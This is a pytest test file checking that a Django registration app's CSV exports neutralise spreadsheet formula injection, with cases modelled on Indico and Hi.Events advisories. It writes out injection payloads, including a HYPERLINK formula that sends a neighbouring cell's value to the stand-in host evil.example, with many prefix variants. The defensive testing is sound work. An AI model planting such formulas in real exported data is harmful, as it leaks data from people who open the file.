"""S21 (Indico 2.2.3; Hi.Events #1311): formulas in exports, from names that anonymous people typed into a form."""

import csv
import io
from typing import Any

import pytest

from tests import factories as f
from tests.pages import client_of
from tests.walks.questions import answer

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠"]


@pytest.mark.parametrize(("language", "delimiter"), [("en", ","), ("el", ";")])
@pytest.mark.parametrize("prefix", PREFIXES)
def test_no_cell_of_the_export_begins_a_formula(prefix: str, language: str, delimiter: str) -> None:
    attack = f'{prefix}HYPERLINK("https://evil.example/?"&B2;"a")'
    lab = f.LabFactory(slug="lab")
    f.SessionFactory(lab=lab, title={"en": attack})
    group = f.StakeholderGroupFactory(programme=lab.programme, name={"en": attack})
    f.RegistrationFactory(
        lab=lab,
        name=attack,
        email=f"{prefix.strip() or '='}1@example.org",
        organisation=attack,
        city_text=attack,
        stakeholder_group=group,
    )
    asked = f.QuestionFactory(question_set__lab=lab, label={"en": attack})
    answer(f.RegistrationFactory(lab=lab, city=f.CityFactory(name={"en": attack})), asked, attack)
    client = client_of(f.StaffFactory(lab=lab).user)
    response: Any = client.get("/organise/labs/lab/registrations.csv", {"lang": language})
    table = io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")
    rows = list(csv.reader(table, delimiter=delimiter))
    assert len(rows) == 3
    cells = [cell for row in rows for cell in row]
    assert sum("HYPERLINK" in cell for cell in cells) == 8  # there was something that could do harm
    assert [cell for cell in cells if cell.lstrip(" \u00a0").startswith(tuple("=+-@\t\r\n＝＋－＠"))] == []


@pytest.mark.parametrize("attack", ["Demo;=1+1", "Demo; @SUM(A1)", "Demo;\t-2", "a;＝1"])
def test_a_cell_that_is_cut_at_its_semicolon_is_none_either(attack: str) -> None:
    """Where lists are separated by semicolons, spreadsheets cut a comma-separated file at those in its cells."""
    lab = f.LabFactory(slug="lab")
    f.RegistrationFactory(lab=lab, organisation=attack)
    client = client_of(f.StaffFactory(lab=lab).user)
    response: Any = client.get("/organise/labs/lab/registrations.csv")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    parts = [part.strip() for part in content.split(";")]
    assert len(parts) == 2
    assert [part for part in parts if part.startswith(tuple("=+-@＝＋－＠"))] == []
